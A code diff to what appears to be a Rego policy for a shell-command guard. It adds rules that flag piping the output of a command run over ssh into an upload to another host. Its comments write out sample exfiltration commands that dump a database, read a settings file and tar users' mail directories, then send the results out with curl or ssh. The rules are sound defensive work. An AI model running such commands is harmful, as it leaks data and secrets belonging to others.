@@ -670,6 +670,11 @@ database_dump(c) if {
 # The dump's bytes are what is sent: piped into the sender, or a file the same command wrote.
 dump_sent(u) if upload_source(u) == "<stdin>"
 
+# A dump run on another host over ssh and its output sent on (ssh db 'mysqldump shop' | curl -T -
+# URL): ssh's output is what the remote command printed (hookward-shell net.rs ssh: `<fetched
+# ssh://HOST>`).
+dump_sent(u) if startswith(upload_source(u), "<fetched ssh://")
+
 dump_sent(u) if startswith(upload_source(u), "<piped from ")
 
 dump_sent(u) if {
@@ -1877,6 +1882,20 @@ decision contains {"id": "shell/output-upload", "decision": "ask", "reason": rea
 }
 
 piped_output(src) := sprintf("the output of %s", [trim_suffix(trim_prefix(src, "<piped from "), ">")]) if startswith(src, "<piped from ")
+
+# What a command run on another host over ssh printed, piped into an upload to a third host (ssh
+# web 'cat /etc/app/settings.ini' | curl -d @- URL, ssh web 'tar czf - /home/*/mail' | ssh
+# elsewhere.example 'cat > m.tgz'): that host's data leaves through this machine, as a local
+# program's output would (hookward-shell net.rs ssh marks ssh's output `<fetched ssh://HOST>`).
+decision contains {"id": "shell/output-upload", "decision": "ask", "reason": reason} if {
+	some u in facts_of("uploads")
+	src := upload_source(u)
+	startswith(src, "<fetched ssh://")
+	not u.program in mail_senders
+	not own_transfer(u)
+	not local_target(u.target)
+	reason := sprintf("the command would send the output of a command run on %s to %s (%s)", [trim_suffix(trim_prefix(src, "<fetched ssh://"), ">"), target_host(u.target), u.evidence])
+}
 
 # Mail senders deliver to addresses the command names (top -b -n 1 | mail -s x me@example.com);
 # what they send is judged by the mail rules.
